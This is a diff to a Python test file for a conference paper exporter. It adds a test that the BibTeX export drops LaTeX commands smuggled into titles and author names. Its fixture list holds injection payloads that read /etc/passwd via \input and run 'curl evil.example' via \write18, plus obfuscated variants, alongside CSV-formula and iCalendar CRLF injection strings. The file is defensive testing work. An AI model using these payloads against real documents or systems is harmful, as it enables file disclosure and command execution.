@@ -28,6 +28,7 @@ import re
 from dataclasses import dataclass
 from html.parser import HTMLParser
 
+import bibtexparser
 import icalendar
 import pytest
 from django.conf import settings
@@ -468,6 +469,36 @@ def test_csv_cells_never_start_a_formula(conference, lab, member, member_client,
     assert (row["authors"], row["keywords"]) == (f"'{formula}; Ada", f"'{formula}")
     assert row["my_one_liner"] == f"'{' '.join(formula.split())} one-liner"
     assert row["sessions"].startswith(f"'{formula}@2024-05-07 10:45-12:45")
+
+
+LATEX_PAYLOADS = [
+    *PAYLOADS,
+    "\\input{/etc/passwd}",
+    "\\immediate\\write18{curl evil.example}",
+    "^^5cinput{/etc/passwd}",
+    "\\csname input\\endcsname{/etc/passwd}",
+    "$\\input{/etc/passwd}$ math",
+]
+
+
+@pytest.mark.parametrize("hostile", LATEX_PAYLOADS)
+def test_bibtex_runs_no_latex_command_of_a_title(conference, lab, member, member_client, hostile):
+    """
+    BibTeX is LaTeX source that a reader compiles into their own paper: a title or an author name must
+    not make it read a file (\\input), run a program (\\write18) or make a link (\\href{javascript:…}).
+    The commands titles really use (math fonts, Greek, text styles) are kept; any other loses its
+    backslash (`\\href{…}` is printed as `href…`), and TeX's `^^5c` spelling of a backslash is split.
+    HTML in a title is plain text to LaTeX, and is kept as written.
+    """
+    PaperFactory(conference=conference, forum_id="latex1", title=f"{hostile} and $\\mathcal{{B}}$-Coder",
+                 authors=[hostile, "Ada Lovelace"])  # fmt: skip
+    text = content_of(member_client.get(reverse("export", args=[lab.slug, conference.slug, "bib"])))
+    assert set(re.findall(r"\\([A-Za-z]+)", text)) <= {"mathcal", "textbf"}
+    assert "^^" not in text
+    [entry] = bibtexparser.parse_string(text).entries
+    assert entry["title"].endswith(" and $\\mathcal{B}$-Coder}")
+    for word in re.findall(r"[A-Za-z]{4,}", hostile):  # the letters stay, readable
+        assert word in entry["title"]
 
 
 CRLF = "Dinner\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT"
